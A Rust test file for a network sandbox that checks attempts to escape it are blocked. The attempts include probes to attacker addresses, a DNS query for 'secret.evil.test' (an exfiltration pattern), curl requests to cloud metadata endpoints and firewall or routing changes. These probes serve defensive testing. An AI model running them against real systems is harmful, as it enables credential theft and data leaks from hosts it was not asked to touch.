//! Ways out of a jail by the network. Servers of an attacker answer whatever reaches them;
//! without a jail everything does.

use std::net::IpAddr;

use portreeve::net::listen::std_udp;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, UdpSocket};

use crate::common::events::Events;
use crate::common::world::{ATTACKER, METADATA};
use crate::common::{Ns, World, inside};
use crate::jail::{Attack, Jail, python};

/// The answer by which an attack knows that it got through, for HTTP, too.
const ANSWER: &[u8] = b"HTTP/1.0 200 OK\r\n\r\nreached";
const STUB: &str = "127.0.0.53";
const PUBLIC: &str = "8.8.8.8";

/// Answers every datagram and every connection there, and tells of it.
fn answer(ns: &Ns, address: IpAddr, port: u16, heard: &Events<String>) {
    let to = (address, port);
    let told = heard.clone();
    let udp = ns.run(move || std_udp(to.into()).unwrap());
    ns.spawn_task(async move {
        let socket = UdpSocket::from_std(udp).unwrap();
        let mut buffer = [0; 512];
        while let Ok((_, peer)) = socket.recv_from(&mut buffer).await {
            told.push(format!("UDP to {to:?}"));
            let _ = socket.send_to(ANSWER, peer).await;
        }
    });
    let told = heard.clone();
    let tcp = ns.block_on(async move { TcpListener::bind(to).await.unwrap() });
    ns.spawn_task(async move {
        while let Ok((mut stream, _)) = tcp.accept().await {
            told.push(format!("TCP to {to:?}"));
            tokio::spawn(async move {
                // Whoever closes with something unread resets.
                let _ = stream.read(&mut [0; 512]).await;
                let _ = stream.write_all(ANSWER).await;
            });
        }
    });
}

/// Sends the message and looks for the attacker's answer.
fn ask(kind: &str, address: &str, port: u16, message: &str) -> String {
    let family = if address.contains(':') {
        "AF_INET6"
    } else {
        "AF_INET"
    };
    python(&format!(
        "import os, socket; s = socket.socket(socket.{family}, socket.{kind}); \
         s.settimeout(int(os.environ[\"PATIENCE\"])); s.connect((\"{address}\", {port})); \
         s.send(b\"{message}\"); exit(0 if b\"reached\" in s.recv(512) else 1)"
    ))
}

/// An echo request, whose answer is the kernel's. IPv4's socket gives its header, too.
fn ping(address: &str) -> String {
    let (family, protocol, at, packet, reply) = if address.contains(':') {
        ("AF_INET6", 58, 0, "\\x80\\0\\0\\0\\0\\1\\0\\1", 129)
    } else {
        ("AF_INET", 1, 20, "\\x08\\0\\xf7\\xfd\\0\\1\\0\\1", 0)
    };
    python(&format!(
        "import os, socket; s = socket.socket(socket.{family}, socket.SOCK_RAW, {protocol}); \
         s.settimeout(int(os.environ[\"PATIENCE\"])); s.sendto(b\"{packet}\", (\"{address}\", 0))\n\
         while s.recv(2048)[{at}] != {reply}: pass"
    ))
}

fn attacks() -> Vec<Attack> {
    let [v4, v6] = ATTACKER.map(|address| address.to_string());
    // For `secret.evil.test`, as a message of its own and with a length before it.
    let query = "\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06secret\\x04evil\\x04test\\0\\0\\x01\\0\\x01";
    let counted = format!("\\0\\x22{query}");
    let path = "PATH=$PATH:/usr/sbin:/sbin";
    let fetch = |url: &str| format!("curl -sS --max-time $PATIENCE {url} | grep -q reached");
    vec![
        ("quic", ask("SOCK_DGRAM", &v4, 443, "x")),
        ("quic_v6", ask("SOCK_DGRAM", &v6, 443, "x")),
        ("udp", ask("SOCK_DGRAM", &v4, 9999, "x")),
        ("udp_v6", ask("SOCK_DGRAM", &v6, 9999, "x")),
        ("tcp", ask("SOCK_STREAM", &v4, 9999, "x")),
        ("tcp_v6", ask("SOCK_STREAM", &v6, 9999, "x")),
        ("tls_port", ask("SOCK_STREAM", &v4, 443, "SSH-2.0-x\\r\\n")),
        (
            "tls_port_v6",
            ask("SOCK_STREAM", &v6, 443, "SSH-2.0-x\\r\\n"),
        ),
        ("icmp", ping(&v4)),
        ("icmp_v6", ping(&v6)),
        ("dns_stub", ask("SOCK_DGRAM", STUB, 53, query)),
        ("dns_public", ask("SOCK_DGRAM", PUBLIC, 53, query)),
        ("dns_public_tcp", ask("SOCK_STREAM", PUBLIC, 53, &counted)),
        (
            "metadata",
            fetch("http://169.254.169.254/latest/meta-data/"),
        ),
        (
            "metadata_v6",
            fetch("http://[fd00:ec2::254]/latest/meta-data/"),
        ),
        ("nft", format!("{path}; nft add table inet other")),
        (
            "route",
            format!("{path}; ip route add 198.51.100.0/24 dev lo"),
        ),
    ]
}

#[test]
fn what_is_no_redirected_connection_goes_nowhere() {
    inside(|| {
        let world = World::new();
        let heard = Events::new();
        let public = format!("addr add {PUBLIC}/32 dev lo");
        world.internet.ip(&public);
        for address in ATTACKER {
            for port in [443, 9999] {
                answer(&world.internet, address, port, &heard);
            }
        }
        for address in METADATA {
            answer(&world.internet, address, 80, &heard);
        }
        answer(&world.internet, PUBLIC.parse().unwrap(), 53, &heard);
        answer(&world.gateway, STUB.parse().unwrap(), 53, &heard);
        let jail = Jail::nested();
        let attacks = attacks();
        jail.stop_all(|command| world.gateway.output(command), &attacks);
        // All but pings and changes are heard, once: outside.
        let heard = heard.all();
        assert_eq!(heard.len(), attacks.len() - 4, "{heard:?}");
        let links = jail.says("PATH=$PATH:/usr/sbin:/sbin; ip -o link | wc -l");
        assert_eq!(links, "1", "only lo");
    });
}

#[test]
fn names_are_asked_of_the_gateway_whatever_the_resolver() {
    let Some(jail) = Jail::new() else { return };
    for resolver in [STUB, PUBLIC] {
        let query = python(&format!(
            "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); \
             s.settimeout(60); s.connect((\"{resolver}\", 53)); \
             s.send(b\"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\" \
             b\"\\x06secret\\x04evil\\x04test\\0\\0\\x01\\0\\x01\"); \
             print(socket.inet_ntoa(s.recv(512)[-4:]))"
        ));
        assert_eq!(jail.says(&query), "198.18.0.1", "{resolver}");
    }
}

/// At once, so that clients fall back or fail, and need not wait for their time to be over.
#[test]
fn refusals_are_told() {
    let Some(jail) = Jail::new() else { return };
    let script = r#"
import socket, sys
for family, host, metadata in [
    (socket.AF_INET, "192.0.2.1", "169.254.169.254"),
    (socket.AF_INET6, "2001:db8::1", "fd00:ec2::254"),
]:
    for kind, address, port in [
        (socket.SOCK_DGRAM, host, 443),
        (socket.SOCK_DGRAM, host, 9999),
        (socket.SOCK_STREAM, host, 25),
        (socket.SOCK_STREAM, metadata, 80),
    ]:
        s = socket.socket(family, kind)
        s.settimeout(60)
        try: s.connect((address, port)); s.send(b"x"); s.recv(9)
        except (ConnectionRefusedError, PermissionError): continue
        sys.exit(f"{address} {port}")
"#;
    let output = jail.sh(&python(script));
    assert!(output.status.success(), "{}", crate::jail::shown(&output));
}
